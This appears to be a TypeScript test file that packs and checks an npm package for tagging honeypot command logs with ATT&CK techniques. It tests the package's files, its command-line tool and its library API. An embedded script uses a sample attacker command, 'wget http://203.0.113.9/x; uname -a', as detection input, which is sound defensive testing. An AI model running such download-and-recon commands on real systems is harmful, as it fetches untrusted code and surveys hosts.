import { execFile } from 'node:child_process'
import { existsSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { promisify } from 'node:util'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { CAPTURE } from './support/capture.js'
import { ruleText } from './support/rule-text.js'
import { linesOf, runCli } from './support/run-cli.js'

const ROOT = fileURLToPath(new URL('..', import.meta.url))
const PATIENCE = 60_000
const execute = promisify(execFile)

let folder: string
let files: readonly string[]
/** The package as npm would unpack it, with the dependencies of this checkout beside it. */
let installed: string

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'decnet-ttp-package-'))
  // The build is there already; a build within a test run would change it under the other tests.
  const pack = ['pack', '--ignore-scripts', '--json', '--pack-destination', folder]
  const { stdout } = await execute('npm', pack, { cwd: ROOT, maxBuffer: 1 << 26 })
  const [{ filename, files: packed }] = JSON.parse(stdout) as [{ filename: string; files: { path: string }[] }]
  files = packed.map((file) => file.path)
  await execute('tar', ['-xzf', join(folder, filename), '-C', folder])
  installed = join(folder, 'package')
  symlinkSync(join(ROOT, 'node_modules'), join(folder, 'node_modules'))
  mkdirSync(join(installed, 'node_modules'))
  symlinkSync(installed, join(installed, 'node_modules', 'decnet-ttp'))
}, PATIENCE)
afterAll(() => {
  rmSync(folder, { recursive: true, force: true })
})

describe('the package', () => {
  it('has what it needs to run and to be tried', () => {
    for (const needed of [
      'package.json',
      'LICENSE',
      'README.md',
      'dist/cli/main.js',
      'dist/index.js',
      'dist/index.d.ts',
      'data/attack/enterprise-19.1.json',
      'data/attack/NOTICE.md',
      'examples/cowrie/cowrie.json',
    ]) {
      expect(files).toContain(needed)
    }
    expect(files.filter((file) => /^rules\/ttp\/R\d{4}_\w+\.yaml$/.test(file)).length).toBeGreaterThan(150)
  })

  it('has no tests, maps, sources of its build or other leftovers', () => {
    const unwanted =
      /\.test\.|\.map$|^(src|test|bench|eval|scripts|node_modules|\.ci)\/|^(?!examples\/).*\.log$|(^|\/)(zz-|\.|.*\.(db|tgz|tsbuildinfo)$)/
    expect(files.filter((file) => unwanted.test(file))).toEqual([])
  })

  it('has nothing that was built from a source that is gone', () => {
    // The command is one bundle; everything else is built a file from a file.
    const built = files.filter((file) => /^dist\/(?!cli\/).*\.js$/.test(file))
    const sourceOf = (file: string) => join(ROOT, file.replace(/^dist/, 'src').replace(/\.js$/, '.ts'))
    expect(built.filter((file) => !existsSync(sourceOf(file)))).toEqual([])
  })

  it('names a program that can be started as it is', async () => {
    const help = await runCli(['--help'], { cli: join(installed, 'dist/cli/main.js') })
    expect(help.status).toBe(0)
    expect(help.stdout).toContain('decnet-ttp')
  })

  it('tags as the checkout does, from any folder', async () => {
    const packed = await runCli(['tag', CAPTURE, '--output', 'jsonl'], {
      cli: join(installed, 'dist/cli/main.js'),
      cwd: '/',
    })
    const { stdout } = await runCli(['tag', CAPTURE, '--output', 'jsonl'])
    expect(packed).toMatchObject({ status: 0, stderr: '' })
    const withoutCreation = (lines: string) => lines.replaceAll(/,"created_at":"[^"]*"}$/gm, '}')
    expect(withoutCreation(packed.stdout)).toBe(withoutCreation(stdout))
  })

  it('works as a library', async () => {
    const script = join(installed, 'try-library.mjs')
    writeFileSync(script, LIBRARY_SCRIPT)
    const { stdout } = await execute(process.execPath, [script, CAPTURE], { cwd: folder })
    const [ownRule, shipped, stream] = linesOf(stdout).map((line) => JSON.parse(line) as unknown)
    expect(ownRule).toEqual(['R9001 T1105'])
    expect(shipped).toContain('T1082')
    expect(stream).toMatchObject({ commands: 1337, refused: 0 })
  })

  it('keeps what it does not promise to itself', async () => {
    const script = join(installed, 'try-inside.mjs')
    writeFileSync(script, `await import('decnet-ttp/dist/engine/rule-engine.js')`)
    await expect(execute(process.execPath, [script])).rejects.toThrow('ERR_PACKAGE_PATH_NOT_EXPORTED')
  })
})

const LIBRARY_SCRIPT = `
import { createReadStream } from 'node:fs'
import {
  compileRuleset, createEvent, EventPipeline, getTagger, loadConfig, mostSpecificId, openPipeline, RuleEngine, tagRow, tagStream,
} from 'decnet-ttp'

const { ruleset, issues } = compileRuleset([{ path: 'R9001.yaml', text: ${JSON.stringify(ruleText({ id: 'R9001' }))} }])
if (issues.length > 0) throw new Error(JSON.stringify(issues))
const event = createEvent({
  sourceKind: 'command',
  payload: { command_text: 'wget http://203.0.113.9/x; uname -a' },
  observedAt: new Date('2026-11-20T08:25:04Z'),
  sourceIp: '198.51.100.20',
})
const own = await new EventPipeline({ ruleset, tagger: getTagger({ tagger_type: 'composite' }) }).tag(event)
console.log(JSON.stringify(own.map((tag) => tag.ruleId + ' ' + mostSpecificId(tag))))

const { pipeline } = await openPipeline(loadConfig({ environment: {} }))
console.log(JSON.stringify((await pipeline.tag(event)).map((tag) => tagRow(tag, null).technique_id)))

let commands = 0
let refused = 0
const options = { format: 'cowrie', onRefused: () => refused++ }
for await (const tagged of tagStream(pipeline, createReadStream(process.argv[2]), options)) {
  if (tagged.event.sourceKind === 'command') commands++
}
console.log(JSON.stringify({ commands, refused }))
`
